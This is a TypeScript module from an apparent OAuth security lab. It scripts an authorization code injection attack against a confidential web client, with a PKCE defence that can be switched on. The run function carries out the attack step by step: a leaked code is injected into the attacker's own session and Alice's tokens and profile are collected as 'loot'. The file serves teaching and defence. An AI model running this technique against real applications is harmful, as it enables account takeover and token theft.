/**
 * Authorization code injection: a code stolen from the victim is redeemed in the attacker's own
 * session at the same client, which then works for him with her account.
 * @see [RFC 9700 §4.5](https://www.rfc-editor.org/rfc/rfc9700#section-4.5)
 * @see [RFC 7636 §1](https://www.rfc-editor.org/rfc/rfc7636#section-1)
 */
import * as oauth from 'oauth4webapi'
import { rfc } from '../shared/spec-links.ts'
import { attackActors, defineAttack } from './attack-model.ts'
import {
  callApi,
  callbackUri,
  confidentialClient,
  discoverServer,
  landedOn,
  signIn,
  startLogin,
  stolenToken,
  via,
  waitForAttackerRecord,
} from './lab-client.ts'

const attackId = 'code-injection'
const { client, auth } = confidentialClient('grantlab-lab-web')
const scope = 'openid profile email orders:read'

export const codeInjectionAttack = defineAttack({
  id: attackId,
  title: 'Authorization code injection',
  goal: 'Use a code stolen from the victim to get her tokens through the real client, in the attacker’s own session, so that the app works for him with her account.',
  summary:
    'Alice signs in; her code reaches the attacker through a script on the client’s callback page. The attacker starts a login of his own at the same app and feeds it her code instead of his. The app is confidential, so the attacker could not redeem the code himself, but the app does it for him.',
  specs: [rfc(9700, '4.5'), rfc(7636, '1'), rfc(7636, '4.6')],
  actors: [attackActors.victim, attackActors.attacker, attackActors.client, attackActors.as],
  callbackEmbedsThirdPartyScript: true,
  defence: {
    label: 'Defence: PKCE',
    explanation:
      'For every login the client makes a fresh code verifier, kept in that session, and sends its hash in the authorization request. The server binds the code to that hash. The attacker’s session has another verifier, so the code he injects does not redeem: the server compares the hash and refuses.',
    spec: rfc(7636, '4.6'),
    side: 'client',
    whenOff:
      'The client sends no code_challenge and redeems with oauth4webapi’s nopkce (this confidential client may leave PKCE out; RFC 9700 says it SHOULD NOT).',
  },
  clients: [
    {
      clientId: 'grantlab-lab-web',
      when: 'always',
      note: 'A confidential, first-party web app; the server is not weakened for it.',
    },
  ],
  steps: [
    {
      id: 'victim-signs-in',
      label: 'alice signs in',
      title: 'Alice signs in at the app',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '4.1.1'),
      explanation:
        'Alice signs in as usual. The server sends her browser back to the client’s callback page with a code, her state and iss.',
    },
    {
      id: 'script-leaks',
      label: 'script sends the address home',
      title: 'A third-party script on the callback page sends the code to the attacker',
      from: 'victim',
      to: 'attacker',
      kind: 'request',
      spec: rfc(9700, '4.5.1'),
      explanation:
        'The callback page embeds an analytics script, as many pages do. It reports the address of every page it runs on to its owner, the query with the code included. Its owner is the attacker. (Codes also leak through logs, Referer headers and browser history.)',
    },
    {
      id: 'attacker-starts',
      label: 'bob starts his own login',
      title: 'The attacker starts a login of his own at the app',
      from: 'attacker',
      to: 'client',
      kind: 'redirect',
      spec: rfc(6749, '10.12'),
      explanation:
        'The attacker opens the app in his own browser and clicks Sign in. The client keeps a state for his session (and, with the defence on, a verifier). He does not sign in: he only needs a session that expects a callback.',
    },
    {
      id: 'inject-code',
      label: 'callback with alice’s code',
      title: 'The attacker opens the callback with Alice’s code and his own state',
      from: 'attacker',
      to: 'client',
      kind: 'redirect',
      spec: rfc(9700, '4.5'),
      explanation:
        'He opens the client’s callback in his own browser with Alice’s code and the state of his own session. The state check passes: it is his session, and state protects a session from codes it did not ask for, not a code from being used by the wrong session.',
    },
    {
      id: 'client-redeems',
      label: 'POST /token (alice’s code)',
      title: 'The client redeems Alice’s code in the attacker’s session',
      from: 'client',
      to: 'as',
      kind: 'request',
      spec: rfc(7636, '4.6'),
      explanation:
        'The client authenticates with its secret and sends the code, and the verifier of the attacker’s session if it uses PKCE. Without PKCE nothing ties the code to the session that asked for it.',
    },
    {
      id: 'attacker-uses',
      label: 'GET /api/profile as alice',
      title: 'The attacker uses the app as Alice',
      from: 'attacker',
      to: 'client',
      kind: 'request',
      spec: rfc(9700, '4.5'),
      explanation:
        'The tokens in the attacker’s session are Alice’s. Whatever the app shows or does, it does for Alice.',
    },
  ],
  async run(ctx) {
    const redirectUri = callbackUri(ctx.appOrigin, attackId)
    const since = ctx.now()
    const { as, landed } = await ctx.step('victim-signs-in', async (s) => {
      const as = await discoverServer(s, ctx.issuer)
      // DEFENCE: PKCE, a verifier per login session (RFC 7636). Off: no challenge at all.
      const alice = await startLogin(as, {
        clientId: client.client_id,
        redirectUri,
        scope,
        state: true,
        pkce: ctx.defence,
        prompt: 'login',
      })
      const page = await signIn(ctx.victim, await ctx.victim.open(alice.url, s), s, 'alice')
      const landed = landedOn(page, 'the client’s callback')
      s.show({ label: 'Alice’s authorization request', value: alice.url, format: 'url' })
      s.show({ label: 'Where Alice’s browser came back', value: landed.href, format: 'url' })
      s.summary('Alice is back at the client’s callback page with her code.')
      return { as, landed }
    })
    const leakedCode = await ctx.step('script-leaks', async (s) => {
      const record = await waitForAttackerRecord(
        s,
        ctx.attackerOrigin,
        since,
        // Of the attacker's records, this run's: the lab knows where Alice's browser landed.
        (r) => r.channel === 'script' && r.page === landed.href,
      )
      const code = new URL(record.page ?? '').searchParams.get('code')
      if (!code) throw new Error('The reported address has no code.')
      s.show({ label: 'What the attacker’s server received', value: record.page ?? '' })
      s.summary('The attacker has Alice’s code.')
      return code
    })
    const bob = await ctx.step('attacker-starts', async (s) => {
      const bob = await startLogin(as, {
        clientId: client.client_id,
        redirectUri,
        scope,
        state: true,
        pkce: ctx.defence,
      })
      const page = await ctx.attacker.open(bob.url, s)
      s.show({ label: 'State of the attacker’s own session', value: bob.state ?? '' })
      s.summary(`The attacker’s session waits for a callback (his browser is at ${page.url}).`)
      return bob
    })
    const params = await ctx.step('inject-code', async (s) => {
      const injected = new URL(redirectUri)
      injected.searchParams.set('code', leakedCode)
      injected.searchParams.set('state', bob.state ?? '')
      injected.searchParams.set('iss', as.issuer)
      await ctx.attacker.open(injected.href, s)
      s.show({ label: 'The address the attacker opened', value: injected.href, format: 'url' })
      const params = oauth.validateAuthResponse(as, client, injected, bob.state ?? '')
      s.summary('The client accepted the response: its state is the attacker’s own session’s.')
      return params
    })
    const tokens = await ctx.step('client-redeems', async (s) => {
      try {
        const response = await oauth.authorizationCodeGrantRequest(
          as,
          client,
          auth,
          params,
          redirectUri,
          // Off: nopkce, no verifier; the code is then good for any session of this client.
          bob.verifier ?? oauth.nopkce,
          via(s),
        )
        const tokens = await oauth.processAuthorizationCodeResponse(as, client, response)
        s.token(stolenToken('ID token, in the attacker’s session', tokens.id_token ?? ''))
        s.summary(
          `The server exchanged Alice’s code: the attacker’s session now holds tokens for ${oauth.getValidatedIdTokenClaims(tokens)?.sub}.`,
        )
        return tokens
      } catch (error) {
        throw ctx.stopped(error, {
          check: 'PKCE code_verifier',
          spec: rfc(7636, '4.6'),
          by: 'authorization server',
          expected: { code: 'invalid_grant', text: /code_verifier does not match/ },
        })
      }
    })
    const profile = await ctx.step('attacker-uses', async (s) => {
      const answer = await callApi(s, ctx.appOrigin, '/api/profile', tokens.access_token)
      s.show({ label: 'The API’s answer', value: JSON.stringify(answer.body), format: 'json' })
      s.summary(`The API answered ${answer.status} with Alice’s profile.`)
      return answer.body
    })
    return {
      status: 'succeeded',
      summary: 'The attacker’s session at the app holds Alice’s tokens.',
      loot: {
        summary: 'Tokens issued for Alice, redeemed by the client in the attacker’s session.',
        tokens: [
          stolenToken('Alice’s ID token', tokens.id_token ?? ''),
          stolenToken('Alice’s access token', tokens.access_token),
        ],
        values: [{ label: 'Alice’s profile', value: JSON.stringify(profile), format: 'json' }],
      },
    }
  },
})
